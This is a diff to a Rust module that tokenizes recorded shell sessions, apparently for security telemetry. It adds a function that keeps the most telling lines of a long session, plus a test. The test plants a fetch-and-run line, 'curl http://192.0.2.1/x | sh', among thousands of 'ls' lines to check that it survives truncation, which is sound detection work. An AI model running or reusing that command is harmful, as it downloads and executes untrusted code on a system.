@@ -171,9 +171,11 @@ impl Sections {
             });
         }
         put(SESSION, &mut |sink| {
-            for line in &story.session {
+            let lines = telling(&story.session, most / LEAST_OF_LINE);
+            let share = (most / lines.len().max(1)).clamp(LEAST_OF_LINE, 64) - 1;
+            for line in lines {
                 sink.put(Field::Line, ";");
-                sink.pieces(Field::Command, line, 64);
+                sink.pieces(Field::Command, line, share);
                 if sink.is_full() {
                     break;
                 }
@@ -203,6 +205,21 @@ impl Sections {
         }
         stream
     }
+}
+
+/// Tokens that a line of a long session has at least, its mark included.
+const LEAST_OF_LINE: usize = 8;
+
+/// At most `most` lines in their order: of a longer session the shortest lines go first, for they say least.
+fn telling(session: &[String], most: usize) -> Vec<&str> {
+    if session.len() <= most {
+        return session.iter().map(String::as_str).collect();
+    }
+    let mut order: Vec<usize> = (0..session.len()).collect();
+    order.sort_by_key(|index| std::cmp::Reverse(session[*index].len()));
+    order.truncate(most);
+    order.sort_unstable();
+    order.iter().map(|index| session[*index].as_str()).collect()
 }
 
 struct Sink<'a> {
@@ -449,6 +466,20 @@ mod tests {
         assert!(tokens.len() <= 256);
         assert!(tokens.iter().any(|token| token == (Field::Stdio, "in=tty")));
         assert!(tokens.iter().any(|(field, _)| field == Field::ChildExe));
+    }
+
+    #[test]
+    fn the_telling_line_of_a_long_session_stays() {
+        let mut story = Story {
+            session: vec!["ls".to_owned(); 5000],
+            ..Story::default()
+        };
+        story
+            .session
+            .push("curl http://192.0.2.1/x | sh".to_owned());
+        let tokens = Tokens::of(&story, Limits::default());
+        assert!(tokens.len() <= 256);
+        assert!(tokens.iter().any(|token| token == (Field::Command, "curl")));
     }
 
     #[test]
